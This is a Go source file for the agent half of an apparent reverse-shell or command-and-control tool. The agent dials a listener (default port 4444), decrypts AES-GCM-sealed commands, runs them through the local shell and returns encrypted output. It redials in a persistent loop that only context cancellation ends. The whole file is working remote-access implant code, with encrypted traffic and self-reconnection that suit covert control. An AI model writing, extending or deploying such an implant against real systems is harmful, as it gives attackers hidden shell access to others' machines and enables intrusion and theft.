// Package agent implements the remote side of the channel: it dials the
// listener, opens each sealed command it receives, executes it through the
// local shell, and sends the sealed output back. A lost or broken connection
// sends the agent back to a paced reconnect loop; nothing short of context
// cancellation stops the process.
package agent

import (
	"context"
	"fmt"
	"io"
	"net"
	"time"

	"github.com/sable-sec/loom/codec"
	"github.com/sable-sec/loom/policy"
	"github.com/sable-sec/loom/secret"
	"github.com/sable-sec/loom/shell"
	"github.com/sable-sec/loom/tcp"

	"go.uber.org/zap"
)

var (
	DefaultHost = "127.0.0.1"
	DefaultPort = uint16(4444)
)

// DefaultDialTimeout paces reconnection: exponential backoff from one second,
// clamped at thirty. The reference behavior of redialing in a tight loop is a
// defect, not a contract.
func DefaultDialTimeout() policy.Timeout {
	return policy.MaxTimeout(30*time.Second, policy.ExponentialBackoff(1.6, policy.ConstantTimeout(time.Second)))
}

type Options struct {
	Logger      *zap.Logger
	Host        string
	Port        uint16
	MaxFrameLen uint32
	DialTimeout policy.Timeout
}

func DefaultOptions() Options {
	logger, err := zap.NewDevelopment()
	if err != nil {
		panic(err)
	}
	return Options{
		Logger:      logger,
		Host:        DefaultHost,
		Port:        DefaultPort,
		MaxFrameLen: codec.DefaultMaxFrameLen,
		DialTimeout: DefaultDialTimeout(),
	}
}

// WithLogger sets the logger that will be used by the agent.
func (opts Options) WithLogger(logger *zap.Logger) Options {
	opts.Logger = logger
	return opts
}

// WithHost sets the listener host that will be dialed.
func (opts Options) WithHost(host string) Options {
	opts.Host = host
	return opts
}

// WithPort sets the listener port that will be dialed.
func (opts Options) WithPort(port uint16) Options {
	opts.Port = port
	return opts
}

// WithDialTimeout sets the per-attempt dial timeout, which also paces
// reconnection.
func (opts Options) WithDialTimeout(timeout policy.Timeout) Options {
	opts.DialTimeout = timeout
	return opts
}

type Agent struct {
	opts   Options
	key    secret.Key
	runner shell.Runner
}

// New returns an Agent that executes commands received from the listener with
// the runner, with all traffic sealed under the key.
func New(opts Options, key secret.Key, runner shell.Runner) *Agent {
	return &Agent{
		opts:   opts,
		key:    key,
		runner: runner,
	}
}

// Run dials the listener and serves commands until the context is done. A
// session that ends, for any reason, is followed by a fresh dial; dial
// attempts themselves are paced by the configured timeout.
func (agent *Agent) Run(ctx context.Context) error {
	address := fmt.Sprintf("%v:%v", agent.opts.Host, agent.opts.Port)
	for {
		select {
		case <-ctx.Done():
			return ctx.Err()
		default:
		}

		err := tcp.Dial(
			ctx,
			address,
			func(conn net.Conn) {
				agent.opts.Logger.Info("connected", zap.String("remote", conn.RemoteAddr().String()))
				agent.serve(ctx, conn)
			},
			func(err error) {
				agent.opts.Logger.Error("dialer", zap.Error(err))
			},
			agent.opts.DialTimeout)
		if err != nil {
			select {
			case <-ctx.Done():
				return ctx.Err()
			default:
			}
			agent.opts.Logger.Error("dialing", zap.Error(err))
		}
		agent.opts.Logger.Info("reconnecting", zap.String("remote", address))
	}
}

// serve runs the command loop over one connection: one sealed command in, one
// sealed output out, in strict alternation. EOF means the listener hung up;
// any other failure is logged. Either way the loop ends and Run redials.
func (agent *Agent) serve(ctx context.Context, conn net.Conn) {
	logger := agent.opts.Logger.With(zap.String("remote", conn.RemoteAddr().String()))

	// Unblock the read loop when the context is canceled; without this a
	// session could only end at the listener's discretion.
	sessionCtx, cancel := context.WithCancel(ctx)
	defer cancel()
	go func() {
		<-sessionCtx.Done()
		if ctx.Err() != nil {
			conn.Close()
		}
	}()

	session, err := codec.NewGCMSession(agent.key)
	if err != nil {
		logger.Error("creating session", zap.Error(err))
		return
	}
	enc := codec.GCMEncoder(session, codec.LengthPrefixEncoder(codec.PlainEncoder, agent.opts.MaxFrameLen))
	dec := codec.GCMDecoder(session, codec.LengthPrefixDecoder(codec.PlainDecoder, agent.opts.MaxFrameLen))

	buf := make([]byte, agent.opts.MaxFrameLen)
	for {
		select {
		case <-ctx.Done():
			return
		default:
		}

		n, err := dec(conn, buf)
		if err != nil {
			if err == io.EOF {
				logger.Info("connection closed by listener")
			} else {
				logger.Error("receiving command", zap.Error(err))
			}
			return
		}

		command := string(buf[:n])
		output, err := agent.runner.Run(ctx, command)
		if err != nil {
			logger.Error("executing command", zap.Error(err))
			return
		}

		if _, err := enc(conn, []byte(output)); err != nil {
			logger.Error("sending output", zap.Error(err))
			return
		}
	}
}
